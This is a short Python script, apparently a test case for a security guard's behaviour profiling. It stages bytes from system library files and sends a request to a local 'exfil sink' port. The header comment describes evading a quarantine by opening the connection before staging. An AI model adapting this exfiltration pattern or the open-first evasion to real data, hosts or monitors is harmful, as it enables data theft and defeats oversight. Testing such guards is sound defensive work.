# Stage data by walking files the policy lets it read, then send it to the
# one API the policy allows: nothing here breaks a rule; only the guard's
# profile tells it apart from the tool's normal work. With "open-first" the
# connection is opened before the staging, while nothing is amiss: a
# quarantine that only refused new connections would let the data out.
# Arguments: [EXFIL_SINK_PORT] API_PORT [open-first]
import os
import socket
import sys

port = int([a for a in sys.argv[1:] if a.isdigit()][-1])
conn = socket.create_connection(("127.0.0.1", port), timeout=1) if "open-first" in sys.argv else None
staged = []
for root, _dirs, files in os.walk("/usr/lib/python3.11"):
    for name in files[:20]:
        try:
            with open(os.path.join(root, name), "rb") as fh:
                staged.append(fh.read(64))
        except OSError:
            pass
    if len(staged) > 400:
        break
try:
    conn = conn or socket.create_connection(("127.0.0.1", port), timeout=1)
    conn.sendall(f"GET /?d={len(staged)} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
    print("SENT" if conn.recv(100) else "blocked: no reply")
except OSError as exc:
    print(f"blocked: {exc}")
